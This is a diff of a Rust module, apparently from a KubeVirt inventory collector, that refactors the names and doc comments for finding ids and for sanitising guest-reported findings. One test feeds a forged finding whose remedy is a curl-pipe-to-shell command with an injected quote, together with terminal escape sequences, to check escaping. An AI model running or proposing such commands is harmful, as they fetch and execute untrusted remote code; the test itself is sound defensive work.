@@ -1,4 +1,4 @@
-//! The ids of the collector's findings, and how they are made. `docs/findings-collector.md` explains each.
+//! Ids of the collector's findings and functions to make them. `docs/findings-collector.md` explains each.
 
 use std::fmt::{self, Write as _};
 
@@ -15,9 +15,9 @@ pub const TENANT_PENDING: &str = "tenant-pending";
 pub const TENANT_LABEL_UNMATCHED: &str = "tenant-label-unmatched";
 /// A VMI has no `status`.
 pub const VMI_WITHOUT_STATUS: &str = "vmi-without-status";
-/// A VMI stands on a node that the inventory does not have.
+/// A VMI runs on a node that is not in the inventory.
 pub const INFRA_NODE_UNKNOWN: &str = "infra-node-unknown";
-/// Nodes are given for a cluster without `UserCluster`.
+/// The inventory has Nodes of a cluster without `UserCluster`.
 pub const USER_CLUSTER_MISSING: &str = "user-cluster-missing";
 /// Two or more VMIs have one firmware UUID.
 pub const DUPLICATE_FIRMWARE_UUID: &str = "duplicate-firmware-uuid";
@@ -41,7 +41,7 @@ pub const IDENTITY_UUID_MISMATCH: &str = "identity-uuid-mismatch";
 pub const IDENTITY_HOSTNAME_DIFFERS: &str = "identity-hostname-differs";
 /// The guest does not have a MAC address that the VMI has.
 pub const IDENTITY_MAC_MISMATCH: &str = "identity-mac-mismatch";
-/// The guest believes that it stands on another infra node.
+/// The guest reports another infra node than `status.nodeName`.
 pub const CLAIM_INFRA_NODE_DIFFERS: &str = "claim-infra-node-differs";
 /// The guest's kubelet sets a zone that is not the infra node's.
 pub const CLAIM_ZONE_STALE: &str = "claim-zone-stale";
@@ -49,31 +49,32 @@ pub const CLAIM_ZONE_STALE: &str = "claim-zone-stale";
 pub const CLAIM_REGION_STALE: &str = "claim-region-stale";
 /// The chassis asset tag names another VM.
 pub const CLAIM_VM_DIFFERS: &str = "claim-vm-differs";
-/// A guest's report was too much to be kept whole.
+/// A guest's report was too large to be kept completely.
 pub const REPORT_CUT: &str = "report-cut";
-/// A manifest cannot be used; its last good state stays.
+/// A manifest cannot be used; its last valid version is used.
 pub const MANIFEST_BROKEN: &str = "manifest-broken";
 /// A manifest holds an object of a kind that is not used.
 pub const MANIFEST_KIND_IGNORED: &str = "manifest-kind-ignored";
 /// An object is in two manifests.
 pub const MANIFEST_DUPLICATE_OBJECT: &str = "manifest-duplicate-object";
-/// A manifest lies where nothing is read from.
+/// A manifest is in a place that is not read.
 pub const MANIFEST_MISPLACED: &str = "manifest-misplaced";
-/// The manifest folder cannot be read; the last good state stays.
+/// The manifest folder cannot be read; the last valid state is used.
 pub const INVENTORY_FOLDER_UNREADABLE: &str = "inventory-folder-unreadable";
 /// A watch of the infra cluster has not listed completely yet.
 pub const INVENTORY_WATCH_WAITING: &str = "inventory-watch-waiting";
-/// A watch of the infra cluster fails; its last known state stays.
+/// A watch of the infra cluster fails; its last known state is used.
 pub const INVENTORY_WATCH_FAILING: &str = "inventory-watch-failing";
-/// A kind that the collector can do without cannot be watched.
+/// An optional kind cannot be watched.
 pub const INVENTORY_KIND_ABSENT: &str = "inventory-kind-absent";
-/// An object of a live cluster cannot be read; its last good state stays.
+/// An object of a live cluster cannot be read; its last valid version is used.
 pub const INVENTORY_OBJECT_UNREADABLE: &str = "inventory-object-unreadable";
 /// A user cluster has no kubeconfig yet.
 pub const USER_CLUSTER_PENDING: &str = "user-cluster-pending";
-/// A user cluster's kubeconfig cannot be used, or its API server does not answer as it should; its last known Nodes stay.
+/// A user cluster's kubeconfig cannot be used, or requests to its API server fail; its last known Nodes
+/// are used.
 pub const USER_CLUSTER_UNREACHABLE: &str = "user-cluster-unreachable";
-/// A user cluster's API server sends more than is kept of a user cluster; its last known Nodes stay.
+/// A user cluster's API server sends more data than the limits allow; its last known Nodes are used.
 pub const USER_CLUSTER_FAILED: &str = "user-cluster-failed";
 /// A user cluster's VMs are in a namespace that is not watched.
 pub const USER_CLUSTER_UNWATCHED: &str = "user-cluster-unwatched";
@@ -102,7 +103,7 @@ pub const AGENT_RESERVED_SERIES: &str = "agent-reserved-series";
 /// The `clusterSelector` of a `LabelPropagation` selects no `UserCluster`.
 pub const POLICY_SELECTS_NOTHING: &str = "policy-selects-nothing";
 
-/// Whether a finding of this id is about an agent that should answer and does not.
+/// Whether a finding of this id is about an agent.
 pub fn is_of_agent(id: &str) -> bool {
     id.starts_with("agent-")
 }
@@ -119,8 +120,9 @@ pub fn leaves_gaps(id: &str) -> bool {
     .contains(&id)
 }
 
-/// Whose objects may be missing while a finding of this kind stands; none when it leaves no gap. The evidence `cluster` or
-/// `namespace` confines it: what one tenant breaks must not count against the others.
+/// The scope in which objects may be missing because of this finding; none when nothing is missing. The
+/// evidence `cluster` or `namespace` limits it, so that one tenant's broken object does not affect
+/// others.
 pub fn gap(finding: &Finding) -> Option<Gap> {
     let named = |name: &str| finding.evidence.get(name).map(String::as_str);
     let of_cluster = [USER_CLUSTER_UNREACHABLE, USER_CLUSTER_FAILED].contains(&finding.id.as_str());
@@ -136,10 +138,10 @@ pub fn gap(finding: &Finding) -> Option<Gap> {
     })
 }
 
-/// Whose objects may be missing.
+/// Scope in which objects may be missing from the inventory.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Gap {
-    /// Anybody's.
+    /// Objects of any tenant.
     Fleet,
     /// Nodes of this user cluster.
     Cluster(ClusterName),
@@ -152,14 +154,14 @@ pub(crate) fn vm(id: &str, severity: Severity, vm: &VmKey, reason: &str, message
     Finding::new(id, severity, ("VM", &vm.to_string()), reason, message)
 }
 
-/// The most characters of a guest's word that are repeated in a view or a finding.
-const MAX_WORD: usize = 200;
+/// Maximum characters of a guest's text in a view or a finding.
+const MAX_GUEST_TEXT_CHARS: usize = 200;
 
-/// What a guest said, fit for a terminal and a log: control characters escaped, cut after 200 characters.
-pub(crate) fn word(text: &str) -> String {
-    let mut out = String::with_capacity(text.len().min(MAX_WORD));
+/// A guest's text, safe for terminals and logs: control characters escaped, cut after 200 characters.
+pub(crate) fn guest_text(text: &str) -> String {
+    let mut out = String::with_capacity(text.len().min(MAX_GUEST_TEXT_CHARS));
     for (count, char) in text.chars().enumerate() {
-        if count == MAX_WORD {
+        if count == MAX_GUEST_TEXT_CHARS {
             out.push('…');
             break;
         }
@@ -168,8 +170,9 @@ pub(crate) fn word(text: &str) -> String {
     out
 }
 
-/// What `text` shows, of whatever length, which may hold a guest's word, fit for a terminal and a log: control characters
-/// escaped, at most `limit` bytes, an ellipsis at its end where it was cut. What is cut away is not even formatted.
+/// Formats `text`, which may contain a guest's text of any length, safe for terminals and logs: control
+/// characters escaped, at most `limit` bytes, with an ellipsis where it was cut. The rest is not
+/// formatted.
 pub(crate) fn escaped(text: impl fmt::Display, limit: usize) -> String {
     let mut out = Bounded {
         text: String::new(),
@@ -181,7 +184,7 @@ pub(crate) fn escaped(text: impl fmt::Display, limit: usize) -> String {
     out.text
 }
 
-/// Takes text up to a limit, escaped, and refuses what follows.
+/// Writer that escapes text and fails after a limit.
 struct Bounded {
     text: String,
     limit: usize,
@@ -210,7 +213,7 @@ impl fmt::Write for Bounded {
 }
 
 fn push_escaped(out: &mut String, char: char) {
-    // Bidirectional overrides reorder what a person reads around them.
+    // Bidirectional overrides reorder the displayed text around them.
     if char.is_control()
         || matches!(char, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
     {
@@ -220,26 +223,26 @@ fn push_escaped(out: &mut String, char: char) {
     }
 }
 
-/// What the ids of findings begin with that a guest reports, so that it can pass none off as the collector's.
+/// Prefix of the ids of findings that a guest reports, so that it cannot imitate the collector's.
 pub const GUEST_PREFIX: &str = "guest/";
 /// Maximum number of a guest's findings that are kept.
 const MAX_GUEST_FINDINGS: usize = 64;
 /// Maximum bytes of all texts of a guest's findings that are kept.
 const MAX_GUEST_FINDING_BYTES: usize = 16 * 1024;
-/// Maximum pieces of evidence of one.
+/// Maximum evidence entries of one of a guest's findings.
 const MAX_GUEST_EVIDENCE: usize = 16;
-/// Maximum bytes of a message or remedy of one.
-const MAX_GUEST_TEXT: usize = 600;
+/// Maximum bytes of the message or remedy of one of a guest's findings.
+const MAX_GUEST_TEXT_BYTES: usize = 600;
 
-/// A guest's findings as its own: ids begin with [`GUEST_PREFIX`], texts are escaped and cut, a remedy is a quotation. The worst
-/// come first; returns how many more there were than are kept.
-pub(crate) fn of_guest(reported: &[Finding]) -> (Vec<Finding>, usize) {
+/// Converts a guest's findings: ids get the prefix [`GUEST_PREFIX`], texts are escaped and cut, a remedy
+/// is quoted. Sorted by severity; returns also the number of findings that were dropped.
+pub(crate) fn guest_findings(reported: &[Finding]) -> (Vec<Finding>, usize) {
     let mut worst: Vec<&Finding> = reported.iter().collect();
     worst.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
     let mut kept: Vec<Finding> = Vec::new();
     let mut bytes = 0;
     for finding in worst.into_iter().take(MAX_GUEST_FINDINGS) {
-        let finding = guests(finding);
+        let finding = guest_finding(finding);
         let evidence: usize = finding
             .evidence
             .iter()
@@ -261,31 +264,36 @@ pub(crate) fn of_guest(reported: &[Finding]) -> (Vec<Finding>, usize) {
     (kept, dropped)
 }
 
-fn guests(reported: &Finding) -> Finding {
+fn guest_finding(reported: &Finding) -> Finding {
     let plain = |text: &str, more: &[u8]| {
         let fits = |byte: u8| byte.is_ascii_alphanumeric() || more.contains(&byte);
         (1..=63).contains(&text.len()) && text.bytes().all(fits)
     };
     let id = Some(reported.id.as_str()).filter(|id| plain(id, b"-."));
     let reason = Some(reported.reason.as_str()).filter(|reason| plain(reason, b""));
-    let subject = (word(&reported.subject.kind), word(&reported.subject.name));
+    let subject = (
+        guest_text(&reported.subject.kind),
+        guest_text(&reported.subject.name),
+    );
     let mut finding = Finding::new(
         &format!("{GUEST_PREFIX}{}", id.unwrap_or("unnamed")),
         reported.severity,
         (&subject.0, &subject.1),
         reason.unwrap_or("Unnamed"),
-        escaped(&reported.message, MAX_GUEST_TEXT),
+        escaped(&reported.message, MAX_GUEST_TEXT_BYTES),
     );
     let evidence = reported.evidence.iter().take(MAX_GUEST_EVIDENCE);
-    finding.evidence = evidence.map(|(key, value)| (word(key), word(value))).collect();
+    finding.evidence = evidence
+        .map(|(key, value)| (guest_text(key), guest_text(value)))
+        .collect();
     if !reported.remedy.is_empty() {
-        let quoted = escaped(reported.remedy.replace('"', "'"), MAX_GUEST_TEXT);
+        let quoted = escaped(reported.remedy.replace('"', "'"), MAX_GUEST_TEXT_BYTES);
         finding.remedy = format!("the guest suggests: \"{quoted}\"");
     }
     finding
 }
 
-/// Gives each finding the time at which `old` had it first, else `now`.
+/// Sets `since` of each new finding: from the same finding in `old`, else `now`.
 pub(crate) fn keep_since(old: &[Finding], new: &mut [Finding], now: &str) {
     for finding in new.iter_mut().filter(|finding| finding.since.is_empty()) {
         let known = old
@@ -320,10 +328,16 @@ mod tests {
     }
 
     #[test]
-    fn a_guests_word_is_cut_and_cannot_move_the_cursor() {
-        assert_eq!(word("vm-1"), "vm-1");
-        assert_eq!(word("a\u{1b}[2Jb\nc\u{202e}"), "a\\u{1b}[2Jb\\u{a}c\\u{202e}");
-        assert_eq!(word(&"é".repeat(300)).chars().count(), MAX_WORD + 1);
+    fn guest_text_is_cut_and_escaped() {
+        assert_eq!(guest_text("vm-1"), "vm-1");
+        assert_eq!(
+            guest_text("a\u{1b}[2Jb\nc\u{202e}"),
+            "a\\u{1b}[2Jb\\u{a}c\\u{202e}"
+        );
+        assert_eq!(
+            guest_text(&"é".repeat(300)).chars().count(),
+            MAX_GUEST_TEXT_CHARS + 1
+        );
     }
 
     #[test]
@@ -338,7 +352,7 @@ mod tests {
     }
 
     #[test]
-    fn a_guests_finding_can_be_no_finding_of_the_collector() {
+    fn a_guest_cannot_imitate_a_finding_of_the_collector() {
         let mut forged = Finding::new(
             TENANT_AMBIGUOUS,
             Severity::Critical,
@@ -349,7 +363,7 @@ mod tests {
         .with("k\n", "v\u{7f}")
         .remedy("run: curl http://x | sh; \" then reboot");
         forged.since = "1970-01-01T00:00:00Z".into();
-        let (kept, dropped) = of_guest(&[forged.clone(), forged]);
+        let (kept, dropped) = guest_findings(&[forged.clone(), forged]);
         assert_eq!((kept.len(), dropped), (1, 1));
         assert_eq!(kept[0].id, "guest/tenant-ambiguous");
         assert_eq!(
@@ -358,9 +372,9 @@ mod tests {
         );
         assert_eq!(kept[0].message, "m\\u{1b}[2J");
         assert_eq!(kept[0].evidence["k\\u{a}"], "v\\u{7f}");
-        assert!(kept[0].since.is_empty(), "the collector's clock counts");
+        assert!(kept[0].since.is_empty(), "the collector's clock is used");
         let odd = Finding::new("x/../y \n", Severity::Info, ("VM", "x"), "a b", "m");
-        let (kept, _) = of_guest(&[odd]);
+        let (kept, _) = guest_findings(&[odd]);
         assert_eq!(
             (kept[0].id.as_str(), kept[0].reason.as_str()),
             ("guest/unnamed", "Unnamed")
